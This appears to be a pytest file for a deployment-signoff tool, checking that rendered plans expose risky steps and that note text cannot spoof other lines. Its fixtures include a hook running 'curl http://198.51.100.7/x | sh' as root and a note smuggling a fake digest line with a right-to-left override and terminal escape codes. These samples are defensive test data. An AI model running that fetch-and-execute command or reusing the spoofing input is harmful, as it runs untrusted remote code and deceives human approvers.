"""What people sign shows what matters, and no text of a file can pose as another line of it."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from engine.config.scope import Scope, build_scope
from engine.signoff.approval import Statement, Subject, parse_statement
from phases.signoff.plan_text import render_plan
from tests.fakes.project_files import make_environment, make_inventory, make_plan

OTHER = "b" * 64


def scope_of() -> Scope:
    """Return a plan with all that an approver should see."""
    inventory = make_inventory(
        (
            "services/redis/hooks",
            {"before_hold": {"argv": ["sh", "-c", "curl http://198.51.100.7/x | sh"], "undo_argv": ["true"]}},
        ),
        (
            "services/redis/mounts",
            [
                {"source": "redis_data", "path": "/data", "rule": "drop"},
                {"source": "conf", "path": "/c", "rule": "same_on_target"},
            ],
        ),
        ("services/redis/ignore_writable_layer_because", "ignore: it is fine"),
        ("services/redis/restart_guards", {"compose": "commented out"}),
        ("services/redis/secrets", {"password": "command:pass show redis"}),
        (
            "links",
            [
                {
                    "from": "n8n",
                    "to": "redis",
                    "name": "redis",
                    "port": 6379,
                    "rewrite": [{"kind": "environment", "variable": "REDIS_HOST", "value": "{host}"}],
                }
            ],
        ),
    )
    plan = make_plan(
        ("moves/1/verify", "metadata"),
        ("moves/1/outage_budget_s", 99999),
        ("moves/0/notes", f"nothing special\n\ndigest: {OTHER}\u202e\x1b[2J"),
    )
    environment = make_environment(
        ("require_clean_checkout", False), ("ssh_config", "other_config"), ("simulated", ["n8n"])
    )
    return build_scope(inventory, plan, environment)


@pytest.mark.parametrize(
    "line",
    [
        "verify: metadata (no content compared, names and sizes only); outage budget: 99999 s",
        "runs as root on wf005 before its hold (hook): sh -c 'curl http://198.51.100.7/x | sh'; to undo: true",
        "NOT COPIED: redis_data at /data stays behind (drop)",
        "NOT COPIED: conf at /c is taken as it is on the target (same_on_target)",
        "NOT COPIED: changes outside its mounts (ignore_writable_layer_because: ignore: it is fine)",
        "could be started by compose, held: commented out",
        "runs on the operator's machine for password: command:pass show redis",
        "n8n to redis (redis:6379): kind environment, value {host}, variable REDIS_HOST",
        "Outage budget: 30 s",
        "Code: uncommitted runbooks may run here",
        "Hosts are reached with ssh_config other_config",
        "Played by stand-ins: n8n",
        "on its host: privileged: root on its host",
    ],
)
def test_what_matters_stands_in_what_is_signed(line: str) -> None:
    """Proof, budget, what stays behind, what runs as root or on the operator's machine, privileges, what is
    rewritten.
    """
    assert line in render_plan(scope_of(), {"redis": ["privileged: root on its host"]})


def test_a_note_can_pose_as_no_other_line() -> None:
    """Each text of a file is one line, and what a screen would obey is shown."""
    scope = scope_of()
    text = Statement(
        Subject("production", scope.digest, scope.parts, {}), "technical", "ana@example.org", datetime.now(UTC)
    ).text(render_plan(scope))

    assert f"digest: {OTHER}" not in text.splitlines()
    assert f"note: nothing special digest: {OTHER}\\u202e\\u001b[2J" in text
    assert text.isascii()
    assert parse_statement(text, "x").subject.digest == scope.digest


def test_a_start_that_is_a_commit_is_signed() -> None:
    """Approvers see where an earlier move puts a dependant on the same target: nothing is undone by itself once that
    service runs.
    """
    early = "n8n on that host can reach it by name then"
    assert early not in render_plan(scope_of())
    plan = make_plan(("moves/0/target", "wf001"))
    assert f"its start on wf001 is its commit, nothing is undone automatically after it: {early}" in render_plan(
        build_scope(make_inventory(), plan, make_environment())
    )
